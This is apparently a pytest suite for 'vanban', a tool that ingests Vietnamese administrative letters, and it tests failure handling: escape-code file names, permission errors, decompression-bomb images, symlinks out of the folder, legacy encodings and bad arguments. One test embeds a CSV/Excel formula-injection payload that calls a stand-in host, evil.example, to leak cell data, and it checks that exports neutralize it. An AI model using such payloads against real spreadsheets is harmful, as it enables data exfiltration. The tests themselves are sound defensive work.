"""How real archives fail, file by file (issue 13): each fault is the real thing — a name
that is not UTF-8, a file the process may not read, a bomb of a TIFF, a symbolic link out of
the folder, TCVN3 text, a foreign database, a bad argument — driven through the real
``vanban`` process. Each ends with one line per failed file, an error row with its stage,
exit status 1 (2 for bad usage), no traceback, and nothing lost or duplicated.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from PIL import Image

from models import Store
from pipeline.read.legacy import TCVN3_BYTES, to_unicode
from tests.conftest import ROOT

LETTER = """ỦY BAN NHÂN DÂN HUYỆN PHÚ TÂN   CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM
Độc lập - Tự do - Hạnh phúc
Số: {n}/UBND-VP   Phú Tân, ngày 12 tháng 3 năm 2024
V/v báo cáo kết quả cải cách hành chính {tag}
Kính gửi: Các phòng chuyên môn huyện.
Giao Văn phòng HĐND và UBND tổng hợp, báo cáo trước ngày 30/3/2024.
Nơi nhận:   KT. CHỦ TỊCH
- Như trên;   PHÓ CHỦ TỊCH
- Lưu: VT.
Nguyễn Văn An
"""


def _letter(path: Path, n: int, tag: str = "") -> Path:
    """A công văn as a text export: distinct number and words, so distinct content."""
    path.write_text(LETTER.format(n=n, tag=tag or path.stem), encoding="utf-8")
    return path


def vanban(*args: str, env: dict | None = None, prefix: tuple[str, ...] = ()
           ) -> subprocess.CompletedProcess:
    return subprocess.run([*prefix, sys.executable, "-m", "pipeline", *args],
                          capture_output=True, text=True, cwd=ROOT, timeout=300,
                          env={**os.environ, **(env or {})}, errors="replace")


def _clean(run: subprocess.CompletedProcess, code: int) -> None:
    assert run.returncode == code, run.stderr
    assert "Traceback" not in run.stderr, run.stderr


def test_names_that_are_not_utf8_or_hold_escape_codes(tmp_path):
    folder = tmp_path / "archive"
    folder.mkdir()
    _letter(folder / "plain.txt", 11)
    # unzipped from an old Windows machine: 'công văn' in code page 1258, a newline and
    # an escape code that would turn a terminal red
    odd = os.fsencode(folder) + b"/c\xf4ng v\xe3n\n\x1b[31mred.txt"
    (folder / "tmp.txt").write_text(LETTER.format(n=12, tag="odd"), encoding="utf-8")
    os.rename(os.fsencode(folder / "tmp.txt"), odd)
    db = f"sqlite:///{tmp_path / 'v.db'}"
    run = vanban("ingest", str(folder), "--db", db)
    _clean(run, 0)
    assert "\x1b" not in run.stdout + run.stderr  # the name is shown escaped
    assert "c\\xf4ng v\\xe3n\\n\\x1b[31mred.txt" in run.stdout
    numbers = sorted(d["number"] for d in Store(db).documents())
    assert numbers == ["11/UBND-VP", "12/UBND-VP"]
    table = vanban("query", "documents", "--db", db)
    _clean(table, 0)
    assert "\x1b" not in table.stdout
    listed = vanban("query", "documents", "--format", "json", "--db", db)
    assert "\x1b" not in listed.stdout
    sources = {Path(d["source"]).name for d in __import__("json").loads(listed.stdout)}
    assert sources == {"plain.txt", "c\\xf4ng v\\xe3n\n\x1b[31mred.txt"}
    again = vanban("ingest", str(folder), "--db", db)  # a re-run finds both stored
    _clean(again, 0)
    assert "0 stored, 2 already stored" in again.stderr


def test_a_file_without_read_permission(tmp_path):
    folder = tmp_path / "archive"
    folder.mkdir()
    _letter(folder / "a.txt", 21)
    locked = _letter(folder / "locked.txt", 22)
    locked.chmod(0)
    # root reads anything: run vanban without the capabilities that let it
    prefix = ("setpriv", "--bounding-set=-dac_override,-dac_read_search", "--") \
        if os.geteuid() == 0 else ()
    db = f"sqlite:///{tmp_path / 'v.db'}"
    Store(db).engine.dispose()
    run = vanban("ingest", str(folder), "--db", db, prefix=prefix)
    _clean(run, 1)
    lines = [ln for ln in run.stderr.splitlines() if "locked.txt" in ln]
    assert lines == [f"vanban: {locked}: cannot read the file: Permission denied"]
    store = Store(db)
    assert [d["number"] for d in store.documents()] == ["21/UBND-VP"]
    assert [(Path(e["source"]).name, e["stage"]) for e in store.errors()] == [("locked.txt", "read")]
    locked.chmod(0o644)  # the office fixes the permission: the re-run completes the batch
    run = vanban("ingest", str(folder), "--db", db, prefix=prefix)
    _clean(run, 0)
    assert sorted(d["number"] for d in store.documents()) == ["21/UBND-VP", "22/UBND-VP"]
    assert store.errors() == []


def _tiff(path: Path, sizes: list[tuple[int, int]]) -> Path:
    frames = [Image.new("1", size, 1) for size in sizes]  # white: deflate makes it tiny
    frames[0].save(path, "TIFF", compression="tiff_deflate", save_all=True,
                   append_images=frames[1:])
    return path


def test_images_that_would_exhaust_memory(tmp_path):
    folder = tmp_path / "archive"
    folder.mkdir()
    huge_second = _tiff(folder / "second.tif", [(1000, 1400), (10_000, 9_000)])
    _tiff(folder / "long.tif", [(40, 40)] * 600)
    wide_png = folder / "wide.png"
    Image.new("1", (14_000, 14_000), 1).save(wide_png)
    _letter(folder / "good.txt", 31)
    assert huge_second.stat().st_size < 200_000 and wide_png.stat().st_size < 2_000_000
    db = f"sqlite:///{tmp_path / 'v.db'}"
    run = vanban("ingest", str(folder), "--db", db, "--workers", "1")
    _clean(run, 1)
    said = {Path(ln.split(": ")[1]).name: ln.split(": ", 2)[2]
            for ln in run.stderr.splitlines() if ln.startswith("vanban: ")}
    assert said["second.tif"] == "image too large: page 2: 10000×9000 pixels (limit 80,000,000)"
    assert said["long.tif"] == "too many pages: 600 (limit 500)"
    assert said["wide.png"] == "image too large: 196,000,000 pixels (limit 80,000,000)"
    store = Store(db)
    assert [d["number"] for d in store.documents()] == ["31/UBND-VP"]
    assert sorted((Path(e["source"]).name, e["stage"]) for e in store.errors()) == [
        ("long.tif", "read"), ("second.tif", "read"), ("wide.png", "read")]


def test_pillow_bomb_guard_stays_on(tmp_path):
    from pipeline.core.settings import Settings
    from pipeline.read.inputs import read_pages

    page = tmp_path / "page.png"
    Image.new("L", (800, 1100), 255).save(page)
    _, pages = read_pages(page, Settings())
    list(pages)
    assert Image.MAX_IMAGE_PIXELS is not None and Image.MAX_IMAGE_PIXELS > 0


def test_links_out_of_the_folder_are_not_followed(tmp_path):
    folder, outside = tmp_path / "archive", tmp_path / "elsewhere"
    folder.mkdir()
    outside.mkdir()
    _letter(folder / "in.txt", 41)
    secret = _letter(outside / "secret.txt", 42)
    (folder / "leak.txt").symlink_to(secret)
    (folder / "linked").symlink_to(outside, target_is_directory=True)
    (folder / "inner.txt").symlink_to(folder / "in.txt")  # a link inside: same content, once
    db = f"sqlite:///{tmp_path / 'v.db'}"
    run = vanban("ingest", str(folder), "--db", db)
    _clean(run, 0)
    assert f"vanban: {folder / 'leak.txt'}: skipped: a link to outside" in run.stderr
    assert f"vanban: {folder / 'linked'}: skipped: a link to outside" in run.stderr
    assert [d["number"] for d in Store(db).documents()] == ["41/UBND-VP"]
    run = vanban("ingest", str(folder), "--db", db, "--follow-links")
    _clean(run, 0)
    assert sorted(d["number"] for d in Store(db).documents()) == ["41/UBND-VP", "42/UBND-VP"]


def _to_tcvn3(text: str) -> str:
    """Unicode text as a TCVN3 file opened as code page 1252 and saved as UTF-8 shows it."""
    to_byte = {letter: b for b, letter in TCVN3_BYTES.items()}
    out = []
    for ch in text:
        small = ch.lower()
        if small in to_byte and small != ch and ch not in to_byte:
            ch = small  # TCVN3 capitals with a mark are the small letters in a capitals font
        out.append(bytes([to_byte[ch]]).decode("cp1252") if ch in to_byte else ch)
    return "".join(out)


def test_tcvn3_and_vni_text_is_converted():
    # the examples of the issue, as such files look today
    assert to_unicode("Céng hßa x· héi chñ nghÜa ViÖt Nam") == (
        "Cộng hòa xã hội chủ nghĩa Việt Nam", "TCVN3")
    assert to_unicode("Coäng hoøa xaõ hoäi chuû nghóa Vieät Nam") == (
        "Cộng hòa xã hội chủ nghĩa Việt Nam", "VNI")
    # Unicode text with letters that are TCVN3 or VNI codes is left as it is
    plain = "Vé số, ô tô và nghĩa vụ được giao"
    assert to_unicode(plain) == (plain, None)


def test_a_tcvn3_document_gives_the_fields_of_its_unicode_twin(tmp_path):
    unicode_file = _letter(tmp_path / "unicode.txt", 51, "năm 2024")
    legacy = tmp_path / "tcvn3.txt"
    legacy.write_text(_to_tcvn3(unicode_file.read_text(encoding="utf-8")), encoding="utf-8")
    assert "Céng hßa" not in legacy.read_text(encoding="utf-8")  # the heading is capitals
    assert "CéNG HßA" in legacy.read_text(encoding="utf-8")
    fields = {}
    for path in (unicode_file, legacy):
        run = vanban("extract", str(path), "--no-db", "--json")
        _clean(run, 0)
        fields[path.name] = __import__("json").loads(run.stdout)
    same = ("number", "issued_date", "place", "issuer", "subject", "signer_name")
    assert {k: fields["tcvn3.txt"][k] for k in same} == {k: fields["unicode.txt"][k] for k in same}
    assert any("TCVN3" in w for w in fields["tcvn3.txt"]["warnings"])


@pytest.mark.parametrize(("args", "said"), [
    (["query", "documents", "--since", "2024-13-45"], "'2024-13-45' is not a date"),
    (["query", "tasks", "--overdue", "2024/07/45"], "'2024/07/45' is not a date"),
    (["query", "documents", "--db", "postgresql+nosuchdriver://x/y"], "not a database vanban can use"),
    (["query", "documents", "--db", "/nonexistent-folder/sub/v.db"],
     "no database at /nonexistent-folder/sub/v.db (nothing was created"),
    (["ingest", "data/samples", "--db", "/nonexistent-folder/sub/v.db"],
     "cannot open or create the file"),
    (["ingest", "/nonexistent-folder"], "not a directory"),
    (["ingest", "data/samples", "--worker", "2"], "unrecognized arguments: --worker 2"),
])
def test_bad_usage_is_one_line_and_exit_2(tmp_path, args, said):
    run = vanban(*args)
    _clean(run, 2)
    assert len(run.stderr.strip().splitlines()) <= 2 and said in run.stderr, run.stderr


def test_the_version_is_said():
    run = vanban("--version")
    _clean(run, 0)
    assert run.stdout.strip() == f"vanban {__import__('pipeline').__version__}"


def test_a_bad_timeout_setting_is_bad_usage(tmp_path):
    run = vanban("query", "documents", "--db", str(tmp_path / "v.db"),
                 env={"VANBAN_DB_TIMEOUT": "abc"})
    _clean(run, 2)
    assert run.stderr.strip() == "vanban: VANBAN_DB_TIMEOUT=abc: not a number of seconds (e.g. 30)"


def test_dates_in_the_forms_an_office_writes_them(tmp_path):
    db = str(tmp_path / "v.db")  # a plain path is a SQLite file
    _clean(vanban("extract", str(_letter(tmp_path / "a.txt", 61)), "--db", db), 0)
    for since in ("2024-03-12", "12/03/2024", "2024-03", "2024"):
        run = vanban("query", "documents", "--since", since, "--format", "csv", "--db", db)
        _clean(run, 0)
        assert "61/UBND-VP" in run.stdout, since
    run = vanban("query", "documents", "--since", "2025", "--format", "csv", "--db", db)
    assert "61/UBND-VP" not in run.stdout


def test_a_database_of_another_program_is_refused_untouched(tmp_path):
    db_file = tmp_path / "theirs.db"
    conn = sqlite3.connect(db_file)
    conn.execute("CREATE TABLE documents (id INTEGER PRIMARY KEY, title TEXT)")
    conn.execute("CREATE TABLE pages (id INTEGER PRIMARY KEY, body BLOB)")
    conn.execute("INSERT INTO documents (title) VALUES ('not ours')")
    conn.commit()
    conn.close()
    before = hashlib.sha256(db_file.read_bytes()).hexdigest()
    folder = tmp_path / "archive"
    folder.mkdir()
    _letter(folder / "a.txt", 71)
    run = vanban("ingest", str(folder), "--db", f"sqlite:///{db_file}")
    _clean(run, 2)
    assert "is not a vanban database (it has its own documents, pages)" in run.stderr
    assert hashlib.sha256(db_file.read_bytes()).hexdigest() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["archive", "theirs.db"]


def test_exports_never_hold_a_live_formula(tmp_path):
    """A scan's text becomes a task; a task that reads like a formula stays text."""
    from openpyxl import load_workbook

    letter = tmp_path / "formula.txt"
    letter.write_text(LETTER.format(n=81, tag="x").replace(
        "Giao Văn phòng HĐND và UBND tổng hợp",
        'Giao Văn phòng HĐND và UBND =HYPERLINK("http://evil.example/?d="&B2,"xem") tổng hợp'),
        encoding="utf-8")
    db = f"sqlite:///{tmp_path / 'v.db'}"
    _clean(vanban("extract", str(letter), "--db", db), 0)
    run = vanban("query", "tasks", "--format", "csv", "--db", db)
    _clean(run, 0)
    cells = [c for row in csv.reader(io.StringIO(run.stdout)) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    book = tmp_path / "tasks.xlsx"
    _clean(vanban("query", "tasks", "--xlsx", str(book), "--db", db), 0)
    sheet = load_workbook(book)["Nhiệm vụ"]
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    assert any("HYPERLINK" in str(c.value) for c in values)
    assert all(c.data_type != "f" for c in values)  # no formula cell anywhere


def test_nul_in_text_is_stored_on_postgresql(tmp_path, postgres_server):
    from tests import postgres

    db = postgres.new_database(postgres_server)
    letter = tmp_path / "nul.txt"
    letter.write_text(LETTER.format(n=91, tag="nul").replace("Kính gửi", "Kính\x00 gửi"),
                      encoding="utf-8")
    run = vanban("extract", str(letter), "--db", db)
    _clean(run, 0)
    assert [d["number"] for d in Store(db).documents()] == ["91/UBND-VP"]


def test_scratch_files_of_a_killed_run_are_swept(tmp_path):
    """What a run killed with SIGKILL leaves in the temporary folder goes with the next."""
    scratch = Path(os.environ.get("TMPDIR", "/tmp"))
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()  # a pid that no longer runs
    left = scratch / f"vanban-{dead.pid}"
    left.mkdir()
    (left / "tmpx.png").write_bytes(b"\x89PNG")
    (tmp_path / "a.txt").write_text("Uy ban\n", encoding="utf-8")
    run = vanban("restore", str(tmp_path / "a.txt"))
    _clean(run, 0)
    assert not left.exists()
    shutil.rmtree(left, ignore_errors=True)


def test_verbose_lines_name_the_file_and_the_page(tmp_path):
    from PIL import ImageDraw, ImageFont

    page = tmp_path / "page.png"
    img = Image.new("L", (1240, 600), 255)
    face = ImageFont.truetype("/usr/share/fonts/truetype/liberation2/LiberationSerif-Regular.ttf", 40)
    ImageDraw.Draw(img).text((100, 200), "Kế hoạch cải cách hành chính năm 2024", font=face, fill=0)
    img.save(page, dpi=(150, 150))
    letter = _letter(tmp_path / "cv.txt", 501)
    quiet = vanban("extract", str(page), str(letter), "--no-db")
    _clean(quiet, 0)
    assert "app.run:" not in quiet.stderr
    loud = vanban("extract", str(page), str(letter), "--no-db", "-v")
    _clean(loud, 0)
    assert "vanban page.png p1 app.run: " in loud.stderr  # what the page gave, which page
    assert "vanban cv.txt app.run: found Công văn 501/UBND-VP" in loud.stderr
    same = vanban("extract", str(letter), "--no-db", env={"VANBAN_LOG": "info"})
    assert "vanban cv.txt app.run: found" in same.stderr


def test_the_database_kept_in_the_archive_folder_is_not_a_document(tmp_path):
    folder = tmp_path / "archive"
    folder.mkdir()
    _letter(folder / "a.txt", 31)
    (folder / "notes.docx").write_bytes(b"PK\x03\x04 not ours")
    db = folder / "archive.db"
    other = folder / "old.sqlite"
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.close()
    first = vanban("ingest", str(folder), "--db", str(db))
    _letter(folder / "b.txt", 32)
    second = vanban("ingest", str(folder), "--db", str(db), "-v")  # -wal and -shm are there now
    for run in (first, second):
        _clean(run, 0)
        said = run.stdout + run.stderr
        assert "archive.db" not in said and "old.sqlite" not in said
        assert "notes.docx: not a supported type" in said  # what is not vanban's is still said
    assert "1 stored, 1 already stored, 1 not supported" in second.stderr
